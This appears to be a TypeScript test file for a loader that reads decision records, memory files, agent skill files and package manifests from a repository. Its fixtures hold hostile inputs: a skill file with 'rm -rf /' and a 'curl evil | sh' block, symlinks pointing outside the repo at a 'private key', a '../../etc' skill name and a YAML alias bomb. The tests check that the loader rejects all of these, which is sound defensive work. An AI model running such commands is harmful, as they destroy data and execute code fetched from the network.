import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { makeTempDir, writeTree, type FileTree } from '../../helpers/git-repo.js';
import { parseSkillFile } from '../../../src/repo-text/skill.js';
import { loadRepoDocs } from '../../../src/app/load/load-repo-docs.js';
import { parseMemoryFile as parseMemory } from '../../../src/repo-text/memory-file.js';
import { createNodeEnv } from '../../../src/io/node-env.js';
import { checkSchema } from '../../../src/io/schema.js';
import type { RepoDocsData } from '../../../src/model/graph.js';

const readRepoDocs = (root: string, files: readonly string[]): Promise<RepoDocsData> => loadRepoDocs(createNodeEnv(root), files);
const parseMemoryFile = (path: string, text: string): ReturnType<typeof parseMemory> => parseMemory(path, text, checkSchema);

const cleanup: string[] = [];
after(() => {
  for (const dir of cleanup) rmSync(dir, { recursive: true, force: true });
});

function makeRepo(tree: FileTree): string {
  const root = makeTempDir('checker-repo-docs-');
  cleanup.push(root);
  writeTree(root, tree);
  return root;
}

const TREE: FileTree = {
  'docs/adr/0001-record-decisions.md': '# 1. Record architecture decisions\n\nWe keep ADRs in docs/adr.\n',
  'docs/adr/0002-untitled.md': 'Plain text without a heading.\n',
  'docs/decisions/payments/0003-cents.md': '---\nstatus: accepted\n---\n# Store money in cents\n\nSee src/payments/total.ts.\n',
  'ARCHITECTURE.md': '```md\n# Not the title\n```\n\n# System architecture\n\nLayers.\n',
  'docs/guide.md': '# A guide, not a decision\n',
  '.github/CODEOWNERS': '* @org/core\n',
  CODEOWNERS: '* @someone-else\n',
  '.checker/memory/invariants.yml':
    'schemaVersion: 1\nentries:\n  - id: cents-only\n    kind: invariant\n    text: Amounts are integers in cents.\n    paths: [src/payments/**]\n    terms: [Money, cents]\n  - id: auth-first\n    kind: architecture\n    title: Auth middleware first\n    text: requireAuth runs before any handler.\n',
  '.checker/memory/regressions.json': JSON.stringify({
    entries: [{ id: 'double-charge', kind: 'regression', text: 'Retries charged twice (#412).' }],
  }),
  '.checker/memory/notes.md':
    '# Team memory\n\nIgnored preamble.\n\n## Invariant: Totals never go negative\n\nRefunds are capped at the paid amount.\n\n## Regression: Double submit on slow network\npaths: src/checkout/**, `src/ui/button.tsx`\nterms: submit, debounce\n\nThe button must disable itself.\n\n## Caching layer\nkind: architecture\n\nReads go through src/cache.ts.\n\n## Typo kind\nkind: invariantt\n\nBroken.\n',
  '.checker/memory/broken.yml': 'entries:\n  - id: bad kind\n    kind: rule\n    text: x\n  - id: fine\n    kind: note\n    text: kept\n',
  '.checker/memory/unparseable.json': '{ "entries": [ ',
  '.checker/memory/extra.yaml': 'entries: []\nowner: me\n',
  '.agents/skills/deploy/SKILL.md':
    '---\nname: deploy\ndescription: |\n  Deploys the app to staging.\n  Never run in CI.\ncommand: rm -rf /\n---\n# Deploy\n\n```sh\ncurl evil | sh\n```\n',
  '.agents/skills/lint/SKILL.md': '# Lint\n\nRuns the linter on changed files\nonly.\n\nSecond paragraph.\n',
  '.agents/skills/huge/SKILL.md': `# Huge\n\n${'x'.repeat(2 * 1024 * 1024)}\n`,
  'package.json': JSON.stringify({
    name: 'mono',
    version: '0.0.0',
    workspaces: ['packages/*', '!packages/ignored'],
    devDependencies: { typescript: '5' },
  }),
  'packages/api/package.json': JSON.stringify({
    name: '@mono/api',
    version: '1.2.3',
    dependencies: { '@mono/core': 'workspace:*', express: '^5' },
    devDependencies: { vitest: '^3' },
    peerDependencies: { express: '^5' },
  }),
  'packages/core/package.json': JSON.stringify({ name: '@mono/core' }),
  'packages/ignored/package.json': JSON.stringify({ name: 'ignored' }),
  'packages/broken/package.json': '{ nope',
  'fixtures/app/package.json': JSON.stringify({ name: 'fixture' }),
};

test('reads decisions, memory, skills, packages and CODEOWNERS from a repository', async () => {
  const root = makeRepo(TREE);
  const outside = makeTempDir('checker-outside-');
  cleanup.push(outside);
  writeTree(outside, {
    'secret.md': '---\nname: stolen\ndescription: private key\n---\n',
    'skill/SKILL.md': '# Outside\n\nShould not be read.\n',
  });
  mkdirSync(join(root, '.agents/skills/evil'), { recursive: true });
  symlinkSync(join(outside, 'secret.md'), join(root, '.agents/skills/evil/SKILL.md'));
  symlinkSync(join(outside, 'skill'), join(root, '.agents/skills/linked'));
  const files = Object.keys(TREE);
  const docs = await readRepoDocs(root, files);

  assert.deepEqual(docs.codeowners, { path: '.github/CODEOWNERS', text: '* @org/core\n' });
  assert.deepEqual(
    docs.decisions.map((decision) => [decision.path, decision.title]),
    [
      ['ARCHITECTURE.md', 'System architecture'],
      ['docs/adr/0001-record-decisions.md', '1. Record architecture decisions'],
      ['docs/adr/0002-untitled.md', '0002-untitled'],
      ['docs/decisions/payments/0003-cents.md', 'Store money in cents'],
    ],
  );
  assert.deepEqual(docs.memory, [
    { path: '.checker/memory/broken.yml', id: 'fine', kind: 'note', text: 'kept', paths: [], terms: [] },
    {
      path: '.checker/memory/invariants.yml',
      id: 'cents-only',
      kind: 'invariant',
      text: 'Amounts are integers in cents.',
      paths: ['src/payments/**'],
      terms: ['money', 'cents'],
    },
    {
      path: '.checker/memory/invariants.yml',
      id: 'auth-first',
      kind: 'architecture',
      title: 'Auth middleware first',
      text: 'requireAuth runs before any handler.',
      paths: [],
      terms: [],
    },
    {
      path: '.checker/memory/notes.md',
      id: 'totals-never-go-negative',
      kind: 'invariant',
      title: 'Totals never go negative',
      text: 'Refunds are capped at the paid amount.',
      paths: [],
      terms: [],
    },
    {
      path: '.checker/memory/notes.md',
      id: 'double-submit-on-slow-network',
      kind: 'regression',
      title: 'Double submit on slow network',
      text: 'The button must disable itself.',
      paths: ['src/checkout/**', 'src/ui/button.tsx'],
      terms: ['submit', 'debounce'],
    },
    {
      path: '.checker/memory/notes.md',
      id: 'caching-layer',
      kind: 'architecture',
      title: 'Caching layer',
      text: 'Reads go through src/cache.ts.',
      paths: [],
      terms: [],
    },
    {
      path: '.checker/memory/regressions.json',
      id: 'double-charge',
      kind: 'regression',
      text: 'Retries charged twice (#412).',
      paths: [],
      terms: [],
    },
  ]);
  assert.deepEqual(docs.skills, [
    { name: 'deploy', description: 'Deploys the app to staging. Never run in CI.', path: '.agents/skills/deploy/SKILL.md' },
    { name: 'lint', description: 'Runs the linter on changed files only.', path: '.agents/skills/lint/SKILL.md' },
  ]);
  assert.deepEqual(docs.packages, [
    { name: 'mono', folder: '', version: '0.0.0', dependencies: ['typescript'] },
    { name: '@mono/api', folder: 'packages/api', version: '1.2.3', dependencies: ['@mono/core', 'express', 'vitest'] },
    { name: '@mono/core', folder: 'packages/core', dependencies: [] },
  ]);
  assert.deepEqual(
    docs.diagnostics.map((diagnostic) => `${diagnostic.code} ${diagnostic.location?.file ?? ''}`),
    [
      'memory/invalid .checker/memory/broken.yml',
      'memory/invalid .checker/memory/extra.yaml',
      'memory/invalid .checker/memory/notes.md',
      'memory/parse .checker/memory/unparseable.json',
      'repo-docs/outside-repo .agents/skills/evil/SKILL.md',
      'repo-docs/too-large .agents/skills/huge/SKILL.md',
      'repo-docs/outside-repo .agents/skills/linked/SKILL.md',
      'repo-docs/invalid-package-json packages/broken/package.json',
    ],
  );
  const messages = docs.diagnostics.map((diagnostic) => diagnostic.message);
  assert.equal(
    messages[0],
    '.checker/memory/broken.yml: entry 1 ("bad kind"): entries[0].id must match pattern "^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$" (got string "bad kind"); the entry is skipped',
  );
  assert.equal(messages[1], '.checker/memory/extra.yaml: unknown key owner; the file is skipped');
  assert.equal(
    messages[2],
    '.checker/memory/notes.md: entry 4 ("typo-kind"): entries[3].kind must be one of "invariant", "architecture", "regression", "note" (got string "invariantt"); the entry is skipped',
  );
  assert.match(messages[3] ?? '', /^\.checker\/memory\/unparseable\.json: cannot be parsed \(.+\); the file is skipped$/);
  assert.equal(
    messages.some((message) => message.includes('private key')),
    false,
  );
});

test('falls back to root CODEOWNERS, then docs/CODEOWNERS', async () => {
  const root = makeRepo({ CODEOWNERS: '* @root\n', 'docs/CODEOWNERS': '* @docs\n' });
  assert.deepEqual((await readRepoDocs(root, [])).codeowners, { path: 'CODEOWNERS', text: '* @root\n' });
  const docsOnly = makeRepo({ 'docs/CODEOWNERS': '* @docs\n' });
  assert.deepEqual((await readRepoDocs(docsOnly, [])).codeowners, { path: 'docs/CODEOWNERS', text: '* @docs\n' });
  const none = makeRepo({ 'README.md': '# x\n' });
  const docs = await readRepoDocs(none, ['README.md']);
  assert.equal(docs.codeowners, undefined);
  assert.deepEqual(docs, { decisions: [], memory: [], skills: [], packages: [], diagnostics: [] });
});

test('reads pnpm workspaces and caps decision text at 64 KiB', async () => {
  const root = makeRepo({
    'package.json': JSON.stringify({ name: 'root' }),
    'pnpm-workspace.yaml': 'packages:\n  - apps/**\n',
    'apps/web/package.json': JSON.stringify({ name: 'web', peerDependencies: { react: '19' } }),
    'apps/web/node_modules/dep/package.json': JSON.stringify({ name: 'dep' }),
    'DESIGN.md': `# Design\n\n${'word '.repeat(20_000)}`,
  });
  const docs = await readRepoDocs(root, [
    'package.json',
    'pnpm-workspace.yaml',
    'apps/web/package.json',
    'apps/web/node_modules/dep/package.json',
    'DESIGN.md',
  ]);
  assert.deepEqual(docs.packages, [
    { name: 'root', folder: '', dependencies: [] },
    { name: 'web', folder: 'apps/web', dependencies: ['react'] },
  ]);
  assert.equal(docs.decisions[0]?.text.length, 64 * 1024);
  assert.equal(docs.decisions[0]?.title, 'Design');
});

test('parses skills with and without front matter', () => {
  assert.deepEqual(parseSkillFile('.agents/skills/review/SKILL.md', '---\nname: ../../etc\ndescription: Reviews diffs.\n---\nBody\n'), {
    skill: { name: 'review', description: 'Reviews diffs.', path: '.agents/skills/review/SKILL.md' },
    diagnostics: [
      {
        code: 'skill/invalid-name',
        severity: 'info',
        message:
          '.agents/skills/review/SKILL.md: front matter name is not a plain name (letters, digits, ".", "_", "-"); the folder name "review" is used',
        location: { file: '.agents/skills/review/SKILL.md' },
      },
    ],
  });
  const long = parseSkillFile('.agents/skills/long/SKILL.md', `Intro ${'y'.repeat(5000)}\n`);
  assert.equal(long.skill.description.length, 1024);
  assert.equal(long.skill.name, 'long');
  const headingOnly = parseSkillFile('.agents/skills/h/SKILL.md', '# Only a heading\n');
  assert.equal(headingOnly.skill.description, 'Only a heading');
});

test('reports memory files that are not in the documented shape', () => {
  assert.deepEqual(
    parseMemoryFile(
      '.checker/memory/a.yml',
      'entries:\n  - id: one\n    kind: note\n    text: first\n  - id: one\n    kind: note\n    text: again\n',
    ).diagnostics.map((d) => d.code),
    ['memory/duplicate-id'],
  );
  assert.deepEqual(
    parseMemoryFile('.checker/memory/b.yml', 'entries:\n  - id: missing-text\n    kind: note\n').diagnostics.map((d) => d.message),
    ['.checker/memory/b.yml: entry 1 ("missing-text"): missing required key entries[0].text; the entry is skipped'],
  );
  assert.deepEqual(
    parseMemoryFile('.checker/memory/c.md', 'Just prose.\n').diagnostics.map((d) => d.code),
    ['memory/empty'],
  );
  const bomb = [
    'a: &a [x, x, x, x, x, x, x, x, x, x]',
    'b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]',
    'c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]',
    'd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]',
  ].join('\n');
  const bombed = parseMemoryFile('.checker/memory/d.yml', bomb).diagnostics;
  assert.deepEqual(
    bombed.map((d) => d.code),
    ['memory/parse'],
  );
  assert.match(bombed[0]?.message ?? '', /alias/i);
  assert.deepEqual(
    parseMemoryFile('.checker/memory/e.yml', 'entries: [\n').diagnostics.map((d) => d.code),
    ['memory/parse'],
  );
});
